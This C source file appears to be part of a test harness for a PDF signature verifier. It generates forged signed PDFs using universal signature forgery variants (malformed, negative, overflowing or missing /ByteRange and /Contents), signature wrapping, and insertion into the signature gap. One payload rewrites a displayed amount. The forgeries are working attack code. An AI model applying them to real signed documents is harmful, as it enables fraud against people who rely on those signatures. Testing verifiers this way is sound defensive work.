/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Universal forgery (blank, null, missing, huge, negative, overlapping ranges)
 * and wrapping (the second range moved behind content of the attacker).
 */

#include "anky-attack.h"
#include "anky-forge.h"

#include <string.h>

/* @text over what stood there, filled with spaces: nothing else moves. */
static GBytes *
overwrite (GBytes *letter, guint64 start, guint64 end, const char *text)
{
  g_autofree char *padded = g_strdup_printf ("%-*s", (int) (end - start), text);

  return anky_forge_replace (letter,
                             (gsize) start,
                             (gsize) (end - start),
                             padded);
}

/* The numbers that stand there, for variants that change one of them. */
static void
read_numbers (const AnkySigned *found, gint64 numbers[4])
{
  numbers[0] = 0;
  numbers[1] = (gint64) found->contents_start;
  numbers[2] = (gint64) found->contents_end;
  numbers[3] = (gint64) (found->end - found->contents_end);
}

/* "%a" to "%d" in the text stand for the four numbers. */
static GBytes *
forge_range (GBytes *letter, const AnkyAttack *self)
{
  AnkySigned found = anky_attack_find (letter);
  g_autoptr (GString) text = g_string_new (self->text);
  gint64 numbers[4];

  read_numbers (&found, numbers);
  for (guint i = 0; i < G_N_ELEMENTS (numbers); i++) {
    const char name[] = { '%', (char) ('a' + i), '\0' };
    g_autofree char *value = g_strdup_printf ("%" G_GINT64_FORMAT, numbers[i]);

    g_string_replace (text, name, value, 0);
  }
  return overwrite (letter, found.range_start, found.range_end, text->str);
}

static GBytes *
forge_contents (GBytes *letter, const AnkyAttack *self)
{
  AnkySigned found = anky_attack_find (letter);

  return overwrite (letter,
                    found.contents_start,
                    found.contents_end,
                    self->text);
}

/* Every digit a zero. */
static GBytes *
forge_zero (GBytes *letter, const AnkyAttack *self)
{
  AnkySigned found = anky_attack_find (letter);
  gsize n = (gsize) (found.contents_end - found.contents_start);
  g_autofree char *zeros = g_strnfill (n, '0');

  zeros[0] = '<';
  zeros[n - 1] = '>';
  return overwrite (letter, found.contents_start, found.contents_end, zeros);
}

/* A key of the dictionary under another name, so that it is missing. */
static GBytes *
forge_key (GBytes *letter, const AnkyAttack *self)
{
  AnkySigned found = anky_attack_find (letter);
  gsize offset = anky_forge_find (letter, self->text, (gsize) found.dict_start);

  return anky_forge_replace (letter, offset, strlen (self->more), self->more);
}

/* --- wrapping ---------------------------------------------------------------
 */

/* The signed head stays, with its range; behind the signature value comes a
 * second /ByteRange whose second part lies further on, then the attacker's
 * objects, and his cross-reference where the signed tail says it is. */
static GBytes *
forge_wrap (GBytes *letter, const AnkyAttack *self)
{
  AnkySigned found = anky_attack_find (letter);
  gsize size = g_bytes_get_size (letter);
  g_autoptr (AnkyPdfDocument) document = anky_letter_open (letter, NULL);
  gsize section = (gsize) anky_pdf_revision_get_startxref (
      anky_pdf_document_get_newest (document));
  gsize tail = size - (gsize) found.contents_end;
  gsize moved = section + 4096;
  g_autoptr (GBytes) head =
      g_bytes_new_from_bytes (letter, 0, (gsize) found.contents_end);
  g_autoptr (GBytes) rest =
      g_bytes_new_from_bytes (letter, (gsize) found.contents_end, tail);
  g_autoptr (AnkyForge) forge = anky_forge_new (head);
  g_autoptr (GBytes) wrapped = NULL;
  g_autofree char *range =
      g_strdup_printf ("/ByteRange[0 %" G_GUINT64_FORMAT " %" G_GSIZE_FORMAT
                       " %" G_GSIZE_FORMAT "]%s>>\nendobj\n",
                       found.contents_start,
                       moved,
                       tail,
                       self->more ? self->more : "");

  anky_forge_append (forge, range);
  anky_forge_append_stream (forge, LETTER_CONTENT, "<<>>", self->text);
  while (anky_forge_get_size (forge) < section)
    anky_forge_append (forge, "\n");
  anky_forge_append (forge, "xref\n0 1\n0000000000 65535 f \n");
  anky_forge_append_trailer (forge, "/Root 1 0 R/Size 40");
  while (anky_forge_get_size (forge) < moved)
    anky_forge_append (forge, "\n");
  wrapped = anky_forge_finish (forge);
  return anky_forge_concat (wrapped, rest);
}

/* The gap made wider: bytes go in between, and the numbers follow. */
static GBytes *
forge_insert (GBytes *letter, const AnkyAttack *self)
{
  AnkySigned found = anky_attack_find (letter);
  guint64 at = self->number == 0 ? found.contents_start : found.contents_end;

  return anky_forge_replace (letter, (gsize) at, 0, self->text);
}

#define EVIL  "BT /F1 14 Tf 72 700 Td (9.000.000 dong) Tj ET"
#define PLAIN ANKY_VICTIM_PLAIN

const AnkyAttack anky_attacks_range[] = {
  { "usf/range-null", PLAIN, FALSE, forge_range, 0, "null" },
  { "usf/range-empty", PLAIN, FALSE, forge_range, 0, "[]" },
  { "usf/range-zeros", PLAIN, FALSE, forge_range, 0, "[0 0 0 0]" },
  { "usf/range-short", PLAIN, FALSE, forge_range, 0, "[%a %b]" },
  { "usf/range-three", PLAIN, FALSE, forge_range, 0, "[%a %b %c]" },
  { "usf/range-five", PLAIN, FALSE, forge_range, 0, "[%a %b %c %d 0]" },
  { "usf/range-tiny", PLAIN, FALSE, forge_range, 0, "[0 10 20 30]" },
  { "usf/range-start", PLAIN, FALSE, forge_range, 0, "[1 %b %c %d]" },
  { "usf/range-negative", PLAIN, FALSE, forge_range, 0, "[0 -1 %c %d]" },
  { "usf/range-negative-start", PLAIN, FALSE, forge_range, 0, "[-9 %b %c %d]" },
  { "usf/range-negative-end", PLAIN, FALSE, forge_range, 0, "[%a %b %c -1]" },
  { "usf/range-huge", PLAIN, FALSE, forge_range, 0, "[%a %b %c 4294967296]" },
  { "usf/range-overflow",
    PLAIN,
    FALSE,
    forge_range,
    0,
    "[0 1 9223372036854775807 9]" },
  { "usf/range-beyond-64-bits",
    PLAIN,
    FALSE,
    forge_range,
    0,
    "[0 %b %c 99999999999999999999]" },
  { "usf/range-swapped", PLAIN, FALSE, forge_range, 0, "[%c %d %a %b]" },
  { "usf/range-overlapping", PLAIN, FALSE, forge_range, 0, "[0 %c %b %d]" },
  { "usf/range-whole", PLAIN, FALSE, forge_range, 0, "[0 %c %c %d]" },
  { "usf/range-no-tail", PLAIN, FALSE, forge_range, 0, "[0 %b %c 0]" },
  { "usf/range-real", PLAIN, FALSE, forge_range, 0, "[0 %b.0 %c %d]" },
  { "usf/range-indirect", PLAIN, FALSE, forge_range, 0, "17 0 R" },
  { "usf/range-string", PLAIN, FALSE, forge_range, 0, "(0 1 2 3)" },
  { "usf/range-name", PLAIN, FALSE, forge_range, 0, "[0 /b %c %d]" },
  { "usf/range-reference", PLAIN, FALSE, forge_range, 0, "[0 %b 17 0 R]" },
  { "usf/range-missing",
    PLAIN,
    FALSE,
    forge_key,
    0,
    "/ByteRange",
    "/ByteRangX" },
  { "usf/contents-null", PLAIN, FALSE, forge_contents, 0, "null" },
  { "usf/contents-empty", PLAIN, FALSE, forge_contents, 0, "<>" },
  { "usf/contents-zero", PLAIN, FALSE, forge_zero },
  { "usf/contents-one-byte", PLAIN, FALSE, forge_contents, 0, "<00>" },
  { "usf/contents-literal", PLAIN, FALSE, forge_contents, 0, "(signature)" },
  { "usf/contents-indirect", PLAIN, FALSE, forge_contents, 0, "17 0 R" },
  { "usf/contents-garbage", PLAIN, FALSE, forge_contents, 0, "<3080020100>" },
  { "usf/contents-missing",
    PLAIN,
    FALSE,
    forge_key,
    0,
    "/Contents",
    "/ContentX" },
  { "usf/sub-filter", PLAIN, FALSE, forge_key, 0, "/SubFilter", "/SubFilteX" },
  { "swa/second-range", PLAIN, FALSE, forge_wrap, 0, EVIL },
  { "swa/second-range-and-contents",
    PLAIN,
    FALSE,
    forge_wrap,
    0,
    EVIL,
    "/Contents<00>" },
  { "swa/certified", ANKY_VICTIM_FORM_FILLING, FALSE, forge_wrap, 0, EVIL },
  { "siwa/inside-before", PLAIN, FALSE, forge_insert, 0, "<00>" },
  { "siwa/inside-after", PLAIN, FALSE, forge_insert, 1, "<00>" },
  { "siwa/spaces", PLAIN, FALSE, forge_insert, 1, "   " },
  { NULL },
};
